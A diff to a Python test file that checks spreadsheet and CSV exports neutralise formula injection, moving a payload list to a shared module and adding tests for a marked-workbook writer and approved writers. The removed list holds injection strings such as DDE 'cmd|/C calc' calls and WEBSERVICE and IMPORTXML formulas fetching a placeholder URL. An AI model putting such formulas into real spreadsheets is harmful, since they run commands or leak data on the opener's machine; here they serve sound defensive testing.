@@ -3,8 +3,10 @@
 import csv
 import datetime as dt
 import io
+import re
 import zipfile
 from decimal import Decimal
+from pathlib import Path
 
 import openpyxl
 import pytest
@@ -16,8 +18,12 @@ from common.pdf import TemplateMissing, render_pdf
 from common.qr import qr_svg, qr_svg_bytes
 from common.templatetags import vi
 from ledger.receipts import pack_family
+from schools.lists.workbook import write_marked
+from tests.payloads import PAYLOADS
 
 UTC = dt.UTC
+APPS = {"accounts", "allocation", "common", "coverage", "dashboards", "delivery", "donations", "ledger", "schools",
+        "sms_program", "verifier"}  # fmt: skip
 
 
 @pytest.mark.parametrize(
@@ -66,15 +72,6 @@ def test_less_than_all_is_never_100_percent():
     assert vi.format_percent(5, 0) == "—"
 
 
-PAYLOADS = [
-    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://x\",\"a\")", "\t=1+1", "\r=1+1",
-    "\n=1+1", " =1+1", "\u00a0=1+1", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "+84 912 345 678", "-Nguyễn Văn A",
-    "@nguyen", "=-1", "--1", "+-1", "=\"=\"", "＝1+1", "＋1", "－1", "＠x", "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "=WEBSERVICE(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1;=2", "=A1",
-]  # fmt: skip
-
-
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_no_payload_is_live_in_a_csv_or_a_workbook(payload):
     text = "".join(csv_lines(["tên"], [[payload]])).removeprefix("\ufeff")
@@ -84,6 +81,44 @@ def test_no_payload_is_live_in_a_csv_or_a_workbook(payload):
     sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
     assert sheet["A2"].data_type == "s"
     assert b"<f>" not in zipfile.ZipFile(io.BytesIO(workbook)).read("xl/worksheets/sheet1.xml")
+
+
+HOME = Path(__file__).resolve().parents[2]
+# Writers of sheets beside `common.exports`, and why nothing live can come out of them.
+OTHER_WRITERS = {
+    "common/exports.py",
+    "common/admin_exports.py",  # neutralises: `test_no_model_with_an_export_in_the_admin_gives_a_formula_back`
+    "schools/lists/workbook.py",  # texts are written as texts: `test_no_payload_is_live_in_a_marked_workbook`
+    "allocation/files.py",  # the public files of a draw: codes and numbers only
+    "sms_program/demo/lists.py",  # invented lists to be uploaded
+    "verifier/backend.py",  # the record of a wheel
+}
+
+
+def test_every_sheet_that_staff_take_away_goes_through_the_safe_writers():
+    tool = re.compile(
+        r"^\s*(?:import|from) (?:xlsxwriter|openpyxl|tablib)\b(?!\.exceptions)|\bcsv\.(?:writer|DictWriter)\(",
+        re.M,
+    )
+    sources = [path for app in APPS for path in (HOME / app).rglob("*.py")]
+    assert len(sources) > 200
+    writers = {
+        str(path.relative_to(HOME)) for path in sources if tool.search(path.read_text(encoding="utf-8"))
+    }
+    assert writers <= OTHER_WRITERS
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_is_live_in_a_marked_workbook(payload):
+    content = io.BytesIO()
+    finding = ["full_name", "error", "name_odd", payload, payload]
+    write_marked(
+        content, [(2, {"full_name": payload, "class_name": payload}, [finding])], schools={"79": payload}
+    )
+    with zipfile.ZipFile(content) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
+    assert sheets
+    assert not any(b"<f>" in sheet for sheet in sheets)
 
 
 @pytest.mark.parametrize("value", ["Nguyễn Văn A", "-5", "+1.234,5", "", None, 7, "a=b"])
